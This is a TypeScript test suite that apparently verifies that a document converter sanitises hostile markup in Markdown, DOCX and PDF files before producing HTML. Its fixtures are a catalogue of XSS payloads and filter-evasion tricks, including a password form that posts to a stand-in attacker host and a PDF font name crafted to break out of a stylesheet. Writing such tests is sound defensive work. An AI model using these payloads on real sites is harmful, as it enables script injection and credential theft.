import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import type { TestApp } from '../support/test-app.ts';
import { startFileApp } from '../support/file-app.ts';
import { convertAndDownload } from '../support/http.ts';
import { extractText } from '../support/documents.ts';
import { minimalDocx } from '../support/fixtures.ts';

/**
 * Issue 8, item 4: an HTML result is a document, never a program. Every conversion producing HTML
 * is fed hostile markup (generated here) and its result, downloaded over HTTP, must have lost the
 * vector and kept the document: heading, link, table cell.
 */

const BENIGN = '# Release notes\n\nRead the [docs](https://example.org/docs) first.\n\n| Item | Cost |\n|------|------|\n| Widget | 42 |\n';

/** A URL a sanitised document may hold: web, mail, fragment, relative, or a raster data image. */
const SAFE_URL = /^(https?:\/\/|mailto:|#|data:image\/(png|jpe?g|gif|webp)[;,]|[^:]*$)/i;

function urlsIn(html: string): string[] {
  return [...html.matchAll(/\s(?:href|src|cite|action|formaction|data|poster|background)\s*=\s*("([^"]*)"|'([^']*)'|([^\s>]+))/gi)].map((m) => m[2] ?? m[3] ?? m[4] ?? '');
}

/** What every sanitised result must satisfy, whatever the vector. */
function assertInert(html: string, label: string): void {
  assert.doesNotMatch(html, /<\s*(script|iframe|object|embed|form|base|svg|frame|frameset|applet|link|button|textarea|select)\b/i, `${label}: active element`);
  assert.doesNotMatch(html, /\son[a-z]+\s*=/i, `${label}: event handler attribute`);
  assert.doesNotMatch(html, /(java|vb)script\s*:|srcdoc|http-equiv\s*=\s*"?refresh/i, `${label}: script URL, srcdoc or refresh`);
  for (const url of urlsIn(html)) assert.match(url, SAFE_URL, `${label}: unsafe URL ${url}`);
}

function assertBenignKept(html: string, label: string): void {
  assert.match(html, /<h1[^>]*>Release notes<\/h1>/, `${label}: heading`);
  assert.match(html, /<a href="https:\/\/example\.org\/docs">docs<\/a>/, `${label}: link`);
  assert.match(html, /<td[^>]*>Widget<\/td>/, `${label}: table cell`);
}

interface Vector {
  name: string;
  markdown: string;
  /** Strings specific to this vector that must be gone (case-insensitive). */
  absent: readonly string[];
  /** Benign text around the vector that must survive. */
  kept?: readonly string[];
}

const VECTORS: readonly Vector[] = [
  { name: 'script element', markdown: '<script>alert("x1")</script>', absent: ['<script', 'alert('] },
  {
    name: 'iframe with src and srcdoc',
    markdown: '<iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>"></iframe>',
    absent: ['<iframe', 'srcdoc', 'evil.example', 'alert('],
  },
  {
    name: 'onerror and onclick handlers',
    markdown: '<img src="missing.png" onerror="alert(1)">\n\n<p onclick="alert(2)" onmouseover = "alert(3)">Click text</p>',
    absent: ['onerror', 'onclick', 'onmouseover', 'alert('],
    // Raw HTML keeps no file reference but data: URIs (src/engines/pandoc-resources.ts), so only
    // the text is looked for here.
    kept: ['Click text'],
  },
  {
    name: 'javascript: links with entity, case and whitespace tricks',
    markdown: [
      '[plain](javascript:alert(1))',
      '<a href="&#106;avascript:alert(2)">entity</a>',
      '<a href="&#x6A;&#x61;vascript&colon;alert(3)">hex entity</a>',
      '<a href="JaVaScRiPt:alert(4)">case</a>',
      '<a href=" java&#x09;script:alert(5)">tab</a>',
      '<a href="&#0000106avascript:alert(6)">padded</a>',
      '<a href="vbscript:msgbox(7)">vb</a>',
    ].join('\n\n'),
    absent: ['alert(', 'msgbox', 'script:'],
    kept: ['plain', 'entity', 'hex entity', 'case', 'tab', 'padded', 'vb'],
  },
  {
    name: 'data:text/html and SVG data URLs',
    markdown: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>\n\n<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+" alt="svg image">\n\n<img src="data:image/png;base64,iVBORw0KGgo=" alt="png image">',
    absent: ['data:text', 'svg+xml'],
    kept: ['data link', 'alt="svg image"', 'src="data:image/png;base64,iVBORw0KGgo="'],
  },
  {
    name: 'inline SVG with script, onload and xlink:href',
    markdown: '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text y="20">svg text</text></a><foreignObject><iframe src="x"></iframe></foreignObject></svg>',
    absent: ['<svg', 'onload', 'xlink', 'alert(', 'foreignobject'],
  },
  {
    name: 'style with expression, url(javascript:) and @import',
    markdown: '<style>body{background:url(javascript:alert(1))} p{width:expression(alert(2))}</style>\n\n<style>@import "https://evil.example/x.css";</style>\n\n<style>a{background:u\\72l(https://evil.example/t.png)}</style>\n\n<p style="background:url(javascript:alert(3));color:red">styled text</p>',
    absent: ['url(', 'expression', '@import', 'evil.example', 'u\\72l'],
    kept: ['styled text', 'color:red'],
  },
  { name: 'meta refresh', markdown: '<meta http-equiv="refresh" content="0;url=https://evil.example/">', absent: ['refresh', 'evil.example'] },
  { name: 'base href', markdown: '<base href="https://evil.example/">', absent: ['<base', 'evil.example'] },
  {
    name: 'form with action, inputs and formaction',
    markdown: '<form action="https://evil.example/steal" method="post"><input type="password" name="pw"><button formaction="https://evil.example/b">Send</button></form>',
    absent: ['<form', 'action', 'password', 'evil.example', '<button'],
  },
  {
    name: 'object and embed',
    markdown: '<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object>\n\n<embed src="https://evil.example/y.swf">',
    absent: ['<object', '<embed', 'evil.example', 'swf'],
  },
];

describe('HTML results are sanitised (issue 8, item 4)', () => {
  let t: TestApp;
  let base: string;
  let apiKey: string;
  before(async () => {
    ({ t, base, apiKey } = await startFileApp());
  });
  after(() => t?.close());

  const convert = (path: string, name: string, content: Buffer | string): Promise<Buffer> => convertAndDownload(base, path, apiKey, { name, content });

  it('every conversion whose target is HTML is one this suite attacks', () => {
    const htmlRoutes = t.services.catalog.tools.filter((tool) => tool.conversion?.to === 'html').map((tool) => tool.path).sort();
    assert.deepEqual(htmlRoutes, ['/api/v1/documents/docx-to-html', '/api/v1/documents/md-to-html', '/api/v1/documents/pdf-to-html']);
  });

  for (const vector of VECTORS) {
    it(`md-to-html drops ${vector.name}`, async () => {
      const html = (await convert('/api/v1/documents/md-to-html', 'notes.md', `${BENIGN}\n${vector.markdown}\n\nClosing paragraph.\n`)).toString('utf8');
      assertInert(html, vector.name);
      for (const bad of vector.absent) assert.ok(!html.toLowerCase().includes(bad.toLowerCase()), `${vector.name}: ${bad} survived in ${html.slice(html.indexOf('<body'))}`);
      assertBenignKept(html, vector.name);
      // pandoc wraps long lines, so kept text is looked for with its white space folded.
      const folded = html.replace(/\s+/g, ' ');
      for (const good of vector.kept ?? []) assert.ok(folded.includes(good), `${vector.name}: ${good} was lost`);
      assert.match(html, /Closing paragraph\./);
    });
  }

  it('md-to-html keeps a standalone page: doctype, charset, title and pandoc\'s own stylesheet', async () => {
    const html = (await convert('/api/v1/documents/md-to-html', 'guide.md', `${BENIGN}\n- [x] done task\n- [ ] open task\n\n\`\`\`js\nlet total = 1;\n\`\`\`\n`)).toString('utf8');
    assert.match(html, /^<!DOCTYPE html>/);
    assert.match(html, /<meta charset="utf-8" \/>/);
    assert.match(html, /<title>[^<]+<\/title>/);
    assert.match(html, /<style[^>]*>[\s\S]*font-family[\s\S]*<\/style>/, 'pandoc\'s stylesheet loads nothing, so it stays');
    assert.match(html, /<input type="checkbox" disabled="" checked="" \/>/, 'task list boxes stay, disabled');
    assert.match(html, /let total = 1|let<\/span> total/);
    assertInert(html, 'benign page');
    assertBenignKept(html, 'benign page');
  });

  it('docx-to-html drops a javascript: hyperlink and keeps the text', async () => {
    const docx = minimalDocx(['Employee handbook introduction', 'Second paragraph'], { hyperlinkUrl: 'javascript:alert(document.cookie)' });
    const html = (await convert('/api/v1/documents/docx-to-html', 'handbook.docx', docx)).toString('utf8');
    assertInert(html, 'docx');
    assert.ok(!html.includes('alert('), html);
    assert.match(html, /Employee handbook introduction/);
    assert.match(html, /a link/);
  });

  it('pdf-to-html drops a javascript: link annotation and a font name that breaks out of pdftohtml\'s stylesheet', async () => {
    const html = (await convert('/api/v1/documents/pdf-to-html', 'report.pdf', hostilePdf())).toString('utf8');
    assertInert(html, 'pdf');
    assert.ok(!html.includes('alert(7)'), 'the javascript: link annotation is gone');
    // The font name closed pdftohtml's <style> early: its pieces are inert CSS, its script is gone.
    assert.ok(!html.includes('alert(9)'), html);
    assert.match(html, /Quarterly report &lt;script&gt;/, 'text that looks like markup stays text');
    assert.match(html, /<a href="https:\/\/example\.org\/ok">/);
    assert.match(html, /Click here/);
    assert.match(html, /style="position:absolute;top:\d+px;left:\d+px;white-space:nowrap"/, 'the page layout stays');
  });

  it('md-to-pdf renders the Markdown without running its scripts', async () => {
    const markdown = `${BENIGN}\n<script>document.body.innerHTML = 'Hijacked by script';</script>\n\n<img src="x.png" onerror="document.body.innerHTML='Hijacked by onerror'">\n`;
    const text = await extractText('pdf', await convert('/api/v1/documents/md-to-pdf', 'notes.md', markdown));
    assert.match(text, /Release notes/);
    assert.match(text, /Widget 42/);
    assert.doesNotMatch(text, /Hijacked/);
  });
});

/** A PDF with text that looks like markup, a javascript: and an https link, and a font whose name closes pdftohtml's <style>. */
function hostilePdf(): Buffer {
  const name = (text: string) => [...text].map((c) => (/[A-Za-z0-9]/.test(c) ? c : `#${c.charCodeAt(0).toString(16).padStart(2, '0')}`)).join('');
  const stream = 'BT /F1 24 Tf 72 720 Td (Quarterly report <script>alert\\(1\\)</script>) Tj 0 -40 Td (Click here) Tj ET';
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [6 0 R 7 0 R] >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    `<< /Type /Font /Subtype /Type1 /BaseFont /${name('Evil;}</style><script>alert(9)</script><style>')} >>`,
    '<< /Type /Annot /Subtype /Link /Rect [72 670 300 700] /Border [0 0 0] /A << /S /URI /URI (javascript:alert\\(7\\)) >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [72 710 400 740] /Border [0 0 0] /A << /S /URI /URI (https://example.org/ok) >> >>',
  ];
  let body = '%PDF-1.4\n';
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(Buffer.byteLength(body, 'latin1'));
    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = Buffer.byteLength(body, 'latin1');
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}
